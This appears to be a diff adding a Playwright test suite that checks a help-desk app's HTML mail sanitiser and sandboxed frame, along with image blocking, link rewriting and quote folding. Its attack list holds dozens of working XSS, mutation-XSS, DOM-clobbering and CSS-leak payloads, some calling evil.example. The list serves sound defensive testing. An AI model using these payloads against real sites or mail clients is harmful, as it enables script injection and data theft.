@@ -1,0 +1,304 @@
+import { expect, type Page, test } from "@playwright/test";
+import { resolve } from "node:path";
+import { build } from "vite";
+
+/** The sanitiser as a page would run it: built on its own, so that each attack costs a page and not a desk. */
+async function sanitiserSource(): Promise<string> {
+  const root = resolve(import.meta.dirname, "../..");
+  const folder = resolve(root, "src/renderer/features/ticket/html");
+  const entry = "\0vectors";
+  const output = await build({
+    root,
+    configFile: false,
+    logLevel: "silent",
+    plugins: [
+      {
+        name: "vectors",
+        resolveId: (id) => (id === "vectors" ? entry : null),
+        load: (id) =>
+          id === entry
+            ? `import { sanitiseHtml } from ${JSON.stringify(`${folder}/sanitise-html.ts`)};
+               import { frameDocument, FRAME_SANDBOX } from ${JSON.stringify(`${folder}/frame-document.ts`)};
+               Object.assign(globalThis, { sanitiseHtml, frameDocument, FRAME_SANDBOX });`
+            : null,
+      },
+    ],
+    build: { write: false, minify: false, rollupOptions: { input: "vectors", output: { format: "iife" } } },
+  });
+  const [bundle] = Array.isArray(output) ? output : [output];
+  const [chunk] = bundle !== undefined && "output" in bundle ? bundle.output : [];
+  if (chunk?.type !== "chunk") throw new Error("The sanitiser was not built.");
+  return chunk.code;
+}
+
+let source = "";
+test.beforeAll(async () => {
+  source = await sanitiserSource();
+});
+
+type Shown = {
+  readonly html: string;
+  readonly blockedImages: number;
+  readonly quoteFolded: boolean;
+  /** Addresses that the frame asked for. */
+  readonly fetched: string[];
+  readonly hacked: unknown;
+};
+
+type Options = {
+  readonly remoteImages?: boolean;
+  readonly inline?: readonly [string, string][];
+  readonly fold?: boolean;
+  /** Puts the mail into the frame as it is. */
+  readonly unsanitised?: boolean;
+};
+
+/** Shows a mail the way the ticket does and tells what came of it. */
+async function show(page: Page, mail: string, options: Options = {}): Promise<Shown> {
+  const fetched: string[] = [];
+  await page.route("**/*", async (route) => {
+    const url = route.request().url();
+    if (url === "http://desk.test/")
+      return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Desk</title>" });
+    fetched.push(url);
+    return route.fulfill({ contentType: "image/gif", body: "" });
+  });
+  await page.goto("http://desk.test/");
+  await page.addScriptTag({ content: source });
+  const shown = await page.evaluate(
+    async ({ html, remoteImages, inline, fold, unsanitised }) => {
+      const { sanitiseHtml, frameDocument, FRAME_SANDBOX } = globalThis as unknown as {
+        sanitiseHtml: (
+          html: string,
+          policy: unknown,
+          labels: unknown,
+        ) => { body: string; styles: string; bodyStyle: string; blockedImages: number; quoteFolded: boolean };
+        frameDocument: (content: unknown, options: unknown) => string;
+        FRAME_SANDBOX: string;
+      };
+      const labels = fold ? { show: "Show", hide: "Hide" } : null;
+      const sanitised = sanitiseHtml(html, { remoteImages, inlineImages: new Map(inline) }, labels);
+      const content = unsanitised ? { ...sanitised, body: html } : sanitised;
+      const frame = document.createElement("iframe");
+      frame.setAttribute("sandbox", FRAME_SANDBOX);
+      frame.srcdoc = frameDocument(content, { remoteImages, title: "Mail" });
+      const loaded = new Promise((done) => frame.addEventListener("load", done, { once: true }));
+      document.body.append(frame);
+      await loaded;
+      const { blockedImages, quoteFolded } = content;
+      return {
+        html: content.body + content.styles + content.bodyStyle,
+        blockedImages,
+        quoteFolded,
+        hacked: (globalThis as { hacked?: unknown }).hacked ?? null,
+      };
+    },
+    {
+      html: mail,
+      remoteImages: options.remoteImages ?? false,
+      inline: [...(options.inline ?? [])],
+      fold: options.fold ?? false,
+      unsanitised: options.unsanitised ?? false,
+    },
+  );
+  return { ...shown, fetched };
+}
+
+const ATTACKS: readonly (readonly [string, string])[] = [
+  ["a script", "<script>parent.hacked=1</script>"],
+  ["a handler", "<img src=x onerror=parent.hacked=1>"],
+  ["a handler on the body", "<body onload=parent.hacked=1 onpageshow=parent.hacked=1>"],
+  ["a handler in capitals behind a slash", "<IMG/SRC=x/OnErRoR=parent.hacked=1>"],
+  [
+    "a script address",
+    '<a href="javascript:parent.hacked=1" autofocus>x</a><iframe src="javascript:parent.hacked=1"></iframe>',
+  ],
+  ["a script address in disguise", '<a href="java&#x09;script:parent.hacked=1">x</a>'],
+  ["a refresh", '<meta http-equiv="refresh" content="0;url=javascript:parent.hacked=1">'],
+  ["a base", '<base href="https://evil.example/"><a href="login">x</a><img src="x.png">'],
+  [
+    "a form",
+    '<form action="https://evil.example"><input name=p autofocus onfocus=parent.hacked=1><button formaction="javascript:parent.hacked=1">x</button></form>',
+  ],
+  [
+    "SVG",
+    "<svg onload=parent.hacked=1><script>parent.hacked=1</script><animate onbegin=parent.hacked=1 attributeName=x dur=1s></svg>",
+  ],
+  [
+    "SVG with a link",
+    '<svg><a xlink:href="javascript:parent.hacked=1"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x onload=parent.hacked=1>"/></svg>',
+  ],
+  ["MathML", '<math href="javascript:parent.hacked=1"><mi//xlink:href="data:x,<script>parent.hacked=1</script>">'],
+  [
+    "mutation by MathML and style",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hacked=1&gt;">',
+  ],
+  ["mutation by SVG and style", '<svg></p><style><a id="</style><img src=1 onerror=parent.hacked=1>">'],
+  ["mutation by noscript", '<noscript><p title="</noscript><img src=x onerror=parent.hacked=1>">'],
+  ["mutation by textarea", '<textarea><img title="</textarea><img src=x onerror=parent.hacked=1>">'],
+  [
+    "mutation by template",
+    "<template><script>parent.hacked=1</script></template><xmp><img title='</xmp><img src onerror=parent.hacked=1>'>",
+  ],
+  ["a style that ends itself", "<style>p{color:red}</style/><script>parent.hacked=1</script>"],
+  ["markup in a style", '<style>a{content:"</style><img src=x onerror=parent.hacked=1>"}</style>'],
+  ["a frame's document", '<iframe srcdoc="<script>parent.parent.hacked=1</script>"></iframe>'],
+  [
+    "an object and an embed",
+    '<object data="data:text/html,<script>parent.hacked=1</script>"></object><embed src="javascript:parent.hacked=1">',
+  ],
+  [
+    "clobbering",
+    '<img name=body><form name=documentElement><input name=attributes></form><a id=defaultView href="cid:x">x</a>',
+  ],
+  ["a details that opens itself", "<details open ontoggle=parent.hacked=1>x</details>"],
+  [
+    "a video",
+    '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onloadstart=parent.hacked=1></video><audio src="https://evil.example/a" autoplay>',
+  ],
+  [
+    "pictures by srcset and picture",
+    '<img srcset="https://evil.example/1x 1x"><picture><source srcset="https://evil.example/s"><img alt=x></picture>',
+  ],
+  [
+    "pictures by old attributes",
+    '<body background="https://evil.example/b"><table background="https://evil.example/t"><td background="//evil.example/d">x</table>',
+  ],
+  [
+    "style sheets and preloads",
+    '<link rel=stylesheet href="https://evil.example/c"><link rel=preload as=image href="https://evil.example/l"><link rel=dns-prefetch href="//evil.example">',
+  ],
+  [
+    "imports and fonts",
+    "<style>@import 'https://evil.example/i';@font-face{font-family:f;src:url(https://evil.example/f)}body{font-family:f}</style><p>x",
+  ],
+  [
+    "reading out by CSS",
+    '<style>a[href^="https"]{background:url(https://evil.example/leak)}p{background:image-set("https://evil.example/set" 1x)}</style><a href="https://x.example">x</a><p>x',
+  ],
+  [
+    "reading out by CSS in disguise",
+    '<p style="background:\\75 rl(https://evil.example/leak)">x</p><p style="background:ur/**/l(https://evil.example/leak2)">x</p>',
+  ],
+  [
+    "lists, cursors and masks",
+    '<ul style="list-style:url(https://evil.example/l)"><li>x</ul><p style="cursor:url(https://evil.example/c),auto;mask:url(https://evil.example/m);content:url(https://evil.example/k)">x',
+  ],
+  ["a ping", '<a href="https://x.example" ping="https://evil.example/ping">x</a>'],
+];
+
+for (const [name, html] of ATTACKS) {
+  test(`${name} runs nothing and fetches nothing`, async ({ page }) => {
+    const shown = await show(page, html);
+    expect({ hacked: shown.hacked, fetched: shown.fetched }).toEqual({ hacked: null, fetched: [] });
+    expect(shown.html).not.toMatch(
+      /<(?:script|iframe|object|embed|form|input|button|meta|link|base|svg|math|template|video|audio|picture)\b/iu,
+    );
+    expect(shown.html).not.toMatch(/<[^>]*\son\w+\s*=/iu);
+    expect(shown.html).not.toMatch(/javascript:/iu);
+  });
+}
+
+test("the frame alone lets nothing run and nothing load, should the sanitiser ever miss something", async ({
+  page,
+}) => {
+  const harmful = `<script>parent.hacked=1</script><img src="https://evil.example/a" onerror="parent.hacked=1"><svg onload="parent.hacked=1"></svg>
+    <iframe src="https://evil.example/b"></iframe><link rel="stylesheet" href="https://evil.example/c"><video src="https://evil.example/d" autoplay></video>
+    <style>@import url(https://evil.example/e); p { background: url(https://evil.example/f) }</style><p>x</p><script src="https://evil.example/g"></script>`;
+  const shown = await show(page, harmful, { unsanitised: true });
+  expect({ hacked: shown.hacked, fetched: shown.fetched }).toEqual({ hacked: null, fetched: [] });
+});
+
+test("pictures wait for the person's word and are then fetched by https", async ({ page }) => {
+  const mail = `<p><img src="http://shop.example/a.png" alt="Offer" width="100" height="40"><img src="https://t.example/pixel" width="1" height="1"></p>
+    <div style="background:url(https://shop.example/b.png)">x</div>`;
+  const before = await show(page, mail);
+  expect({ blocked: before.blockedImages, fetched: before.fetched }).toEqual({ blocked: 3, fetched: [] });
+  expect(before.html).toContain("Offer");
+  const after = await show(page, mail, { remoteImages: true });
+  expect({ blocked: after.blockedImages, fetched: after.fetched.toSorted() }).toEqual({
+    blocked: 0,
+    fetched: ["https://shop.example/a.png", "https://shop.example/b.png", "https://t.example/pixel"],
+  });
+});
+
+test("pictures of the mail itself are shown at once", async ({ page }) => {
+  const picture = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
+  const shown = await show(page, '<img src="cid:logo@shop" alt="Logo"><img src="cid:gone@shop" alt="Gone">', {
+    inline: [["logo@shop", picture]],
+  });
+  expect(shown).toMatchObject({
+    html: `<img src="${picture}" alt="Logo"><img alt="Gone">`,
+    blockedImages: 0,
+    fetched: [],
+  });
+});
+
+test("links open a window of their own that knows nothing of ours, and tell where they lead", async ({ page }) => {
+  const { html } = await show(page, '<a href="https://x.example/a" target="_top" rel="opener">x</a>');
+  expect(html).toBe(
+    '<a href="https://x.example/a" rel="noopener noreferrer" target="_blank" title="https://x.example/a">x</a>',
+  );
+});
+
+test("tables keep their old attributes, the body its colour", async ({ page }) => {
+  const { html } = await show(
+    page,
+    '<table border="1" cellpadding="4" width="300" bgcolor="#eef"><tr><td align="right" colspan="2">1</td></tr></table>',
+  );
+  for (const kept of [
+    'border="1"',
+    'cellpadding="4"',
+    'width="300"',
+    "background-color: #eef",
+    'align="right"',
+    'colspan="2"',
+  ])
+    expect(html).toContain(kept);
+});
+
+test.describe("history", () => {
+  const folded: readonly (readonly [string, string])[] = [
+    [
+      "Gmail",
+      '<div>Thanks!</div><div class="gmail_quote"><div class="gmail_attr">On Monday …</div><blockquote class="gmail_quote">Old</blockquote></div>',
+    ],
+    [
+      "Thunderbird",
+      '<p>Thanks!</p><div class="moz-cite-prefix">On Monday …</div><blockquote type="cite">Old</blockquote>',
+    ],
+    [
+      "Outlook on the web",
+      '<div>Thanks!</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: Anna</div><div>Old</div>',
+    ],
+    [
+      "Outlook",
+      '<div><p>Thanks!</p><div><div style="border:none;border-top:solid #E1E1E1 1.0pt"><p>From: Anna</p></div></div><p>Old</p></div>',
+    ],
+  ];
+  for (const [program, html] of folded) {
+    test(`of ${program} is folded under the answer`, async ({ page }) => {
+      const shown = await show(page, html, { fold: true });
+      expect(shown.quoteFolded).toBe(true);
+      const frame = page.frameLocator("iframe");
+      await expect(frame.getByText("Thanks!")).toBeVisible();
+      await expect(frame.getByText("Old")).toBeHidden();
+      await frame.getByText("Show", { exact: true }).click();
+      await expect(frame.getByText("Old")).toBeVisible();
+    });
+  }
+
+  const open: readonly (readonly [string, string])[] = [
+    ["with an answer below it", '<blockquote type="cite">When?</blockquote><p>On Friday.</p>'],
+    [
+      "with answers between its lines",
+      '<p>Hi</p><blockquote type="cite">When?</blockquote><p>On Friday.</p><blockquote type="cite">Where?</blockquote><p>Here.</p>',
+    ],
+    ["without anything above it", '<div class="gmail_quote">Only this</div>'],
+  ];
+  for (const [what, html] of open) {
+    test(`${what} stays open`, async ({ page }) => {
+      expect((await show(page, html, { fold: true })).quoteFolded).toBe(false);
+    });
+  }
+});
